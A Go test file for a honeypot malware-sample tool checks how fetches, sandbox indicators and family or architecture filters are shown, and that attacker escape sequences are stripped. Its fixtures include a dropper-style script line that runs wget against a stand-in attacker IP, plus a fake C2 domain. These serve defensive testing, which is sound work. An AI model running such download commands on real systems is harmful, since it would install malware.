package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
)

// TestSamplesShowFetchesRuns: `samples show` gives a sample's fetches and
// its sandbox runs with their indicators (attacker text escaped in the
// table), and `samples list` filters by family and architecture.
func TestSamplesShowFetchesRuns(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	db := filepath.Join(dir, "s.duckdb")
	a := filepath.Join(dir, "a.arm")
	os.WriteFile(a, miraiLikeELF(5), 0o600)
	script := filepath.Join(dir, "x.sh")
	os.WriteFile(script, []byte("#!/bin/sh\nwget http://198.51.100.7/x\n"), 0o600)
	out, errOut, err := runSplit(t, "samples", "add", "--db", db, "--format", "json", a, script)
	if err != nil {
		t.Fatalf("%v\n%s", err, errOut)
	}
	var rows []addedRow
	if err := json.Unmarshal([]byte(out), &rows); err != nil || len(rows) != 2 {
		t.Fatalf("%v %s", err, out)
	}
	sha := rows[0].SHA256
	st, err := duckstore.Open(ctx, db, duckstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 5, 4, 1, 0, 0, 0, time.UTC)
	if err := st.RecordFetch(ctx, store.Fetch{URL: "http://198.51.100.7/bins/x.arm7", Time: at, Attempts: 1, Status: 200,
		Server: "198.51.100.7:80", Size: 100, SHA256: sha, Type: "elf", Error: "late \x1b[31mred"}); err != nil {
		t.Fatal(err)
	}
	if _, err := st.AddSandboxRun(ctx, store.SandboxRun{SHA256: sha, Arch: "arm", Started: at, Duration: time.Minute, TimedOut: true,
		Indicators: []store.SandboxIndicator{{Kind: store.IndicatorDomain, Value: "cnc.\x1b]evil.example", Count: 4},
			{Kind: store.IndicatorScanned, Value: "23", Count: 40}}}); err != nil {
		t.Fatal(err)
	}
	st.Close()

	out, _, err = runSplit(t, "samples", "show", "--db", db, "--format", "json", sha[:12])
	if err != nil {
		t.Fatal(err)
	}
	var shown struct {
		Family  string
		Fetches []store.Fetch
		Runs    []store.SandboxRun
	}
	if err := json.Unmarshal([]byte(out), &shown); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if shown.Family != "mirai" || len(shown.Fetches) != 1 || shown.Fetches[0].Status != 200 || len(shown.Runs) != 1 || len(shown.Runs[0].Indicators) != 2 {
		t.Errorf("show: %+v", shown)
	}
	out, _, err = runSplit(t, "samples", "show", "--db", db, sha)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"fetched (1)", "http://198.51.100.7/bins/x.arm7", "198.51.100.7:80", "sandbox runs (1)", "killed at the time limit", "23"} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\x1b") {
		t.Errorf("an escape character reached the terminal:\n%q", out)
	}
	// The script has neither: it says so.
	out, _, err = runSplit(t, "samples", "show", "--db", db, "--lang", "ja", rows[1].SHA256)
	if err != nil || !strings.Contains(out, "サンドボックス実行はありません") || !strings.Contains(out, "取得した記録はありません") {
		t.Errorf("script: %v\n%s", err, out)
	}

	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"--family", "mirai"}, []string{sha}},
		{[]string{"--family", "MIRAI", "--arch", "arm"}, []string{sha}},
		{[]string{"--arch", "mipsel"}, nil},
		{[]string{"--family", "gafgyt"}, nil},
		{nil, []string{sha, rows[1].SHA256}},
	} {
		out, _, err := runSplit(t, append([]string{"samples", "list", "--db", db, "--format", "json"}, c.args...)...)
		if err != nil {
			t.Fatal(err)
		}
		var listed []struct{ SHA256 string }
		if err := json.Unmarshal([]byte(out), &listed); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		var got []string
		for _, l := range listed {
			got = append(got, l.SHA256)
		}
		if strings.Join(got, ",") != strings.Join(c.want, ",") && !(len(c.want) == 2 && len(got) == 2) {
			t.Errorf("list %v: %v, want %v", c.args, got, c.want)
		}
	}
}
